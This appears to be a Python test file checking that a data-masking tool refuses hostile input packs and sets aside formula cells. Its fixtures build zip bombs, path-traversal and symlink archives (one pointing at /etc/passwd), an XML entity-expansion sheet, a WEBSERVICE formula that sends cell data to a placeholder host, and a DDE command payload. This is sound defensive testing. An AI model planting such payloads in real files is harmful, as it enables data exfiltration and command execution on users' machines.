"""Packs from strangers: `read_pack` refuses in words, `masker` ends with 2.

How each limit is measured is tested beside the readers; here stands what a user sees of it.
"""

from __future__ import annotations

import stat
import zipfile

import openpyxl
import pytest
from masker import masker
from office_month import PERIOD, PROFILE, csv_text, nip, tables, write_tables

import masker_rules as mr

MIB = 1024 * 1024


def member(name, data, **attributes):
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    for key, value in attributes.items():
        setattr(info, key, value)
    return info, data


def zipped(path, *members):
    """A zip with a good `employees.csv` and the members given."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("employees.csv", csv_text(tables(2)["employees"]))
        for info, data in members:
            archive.writestr(info, data)
    return path


def bomb_by_ratio(folder):
    return zipped(folder / "pack.zip", member("punches.csv", b"0" * (40 * MIB)))


def bomb_by_declared_size(folder):
    """A member whose directory entry promises more than will ever be unpacked."""
    path = zipped(folder / "pack.zip", member("punches.csv", b"nip,time\n"))
    raw = bytearray(path.read_bytes())
    at = raw.rindex(b"PK\x01\x02") + 24
    raw[at : at + 4] = (600 * MIB).to_bytes(4, "little")
    path.write_bytes(raw)
    return path


def bomb_inside_a_workbook(folder):
    return zipped(folder / "pack.xlsx", member("xl/worksheets/sheet1.xml", b" " * (40 * MIB)))


def too_many_members(folder):
    notes = (member(f"note-{number}.txt", b"") for number in range(200))
    return zipped(folder / "pack.zip", *notes)


def path_that_climbs(folder):
    return zipped(folder / "pack.zip", member("../punches.csv", b"nip,time\n"))


def path_from_the_root(folder):
    return zipped(folder / "pack.zip", member("/etc/punches.csv", b"nip,time\n"))


def link_in_a_zip(folder):
    link = member("punches.csv", b"/etc/passwd", external_attr=(stat.S_IFLNK | 0o777) << 16)
    return zipped(folder / "pack.zip", link)


def link_in_a_folder(folder):
    secret = folder / "secret.csv"
    secret.write_text("nip,time\n", "utf-8")
    pack = write_tables(folder / "pack", {"employees": tables(2)["employees"]})
    (pack / "punches.csv").symlink_to(secret)
    return pack


def nul_bytes(folder):
    pack = write_tables(folder / "pack", tables(2))
    path = pack / "punches.csv"
    path.write_bytes(path.read_bytes().replace(b",in\n", b",in\0\n", 1))
    return pack


def entities_in_a_workbook(folder):
    """A sheet whose document type would grow while it is parsed."""
    book = openpyxl.Workbook()
    book.active.title = "employees"
    book.active.append(["nip"])
    book.save(folder / "good.xlsx")
    kind = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    with (
        zipfile.ZipFile(folder / "good.xlsx") as good,
        zipfile.ZipFile(folder / "pack.xlsx", "w", zipfile.ZIP_DEFLATED) as bad,
    ):
        for info in good.infolist():
            more = kind if info.filename.endswith("sheet1.xml") else b""
            bad.writestr(info.filename, more + good.read(info))
    return folder / "pack.xlsx"


HOSTILE = {
    bomb_by_ratio: "zip-ratio",
    bomb_by_declared_size: "zip-too-large",
    bomb_inside_a_workbook: "zip-ratio",
    too_many_members: "zip-too-many-members",
    path_that_climbs: "path-leaves-pack",
    path_from_the_root: "path-leaves-pack",
    link_in_a_zip: "zip-link",
    link_in_a_folder: "path-leaves-pack",
    nul_bytes: "nul-byte",
    entities_in_a_workbook: "xml-with-dtd",
}


@pytest.mark.parametrize(
    ("make", "code"), [pytest.param(*item, id=item[0].__name__) for item in HOSTILE.items()]
)
def test_pack_when_hostile_then_refused_in_words_with_exit_2(tmp_path, make, code):
    path = make(tmp_path)
    with pytest.raises(mr.FactsError) as caught:
        mr.read_pack(path)
    assert caught.value.code == code
    done = masker("check", path, "--lang", "en")
    assert done.returncode == 2
    assert done.stdout == ""
    assert caught.value.text("en").splitlines()[0] in done.stderr
    assert "Traceback" not in done.stderr


def formula_in_a_sheet(folder, pack):
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in pack.items():
        sheet = book.create_sheet(name)
        sheet.append(list(rows[0]))
        for row in rows:
            sheet.append(list(row.values()))
    book["employees"]["B2"] = '=WEBSERVICE("https://example.invalid/"&A2)'
    path = folder / "pack.xlsx"
    book.save(path)
    return path


def formula_in_a_csv(folder, pack):
    pack["employees"][0]["name"] = "=cmd|'/c calc'!A0"
    return write_tables(folder / "pack", pack)


@pytest.mark.parametrize("make", [formula_in_a_sheet, formula_in_a_csv])
def test_formula_when_in_a_text_cell_then_the_row_is_set_aside_and_named(tmp_path, make):
    path = make(tmp_path, tables(3))
    results = mr.compute(PROFILE, path, PERIOD)
    [item] = results.set_aside
    assert (item.code, item.column, item.line, item.nip) == ("formula-cell", "name", 2, nip(0))
    statuses = {result.nip: result.status for result in results}
    assert statuses == {nip(0): "incomplete", nip(1): "payable", nip(2): "payable"}
    done = masker("compute", path, "--profile", PROFILE, "--period", PERIOD, "--strict")
    assert (done.returncode, "Traceback" in done.stderr) == (1, False)


def test_sources_when_they_do_not_exist_then_refused_in_words(tmp_path):
    done = masker("check", tmp_path / "nowhere")
    assert (done.returncode, "Traceback" in done.stderr) == (2, False)
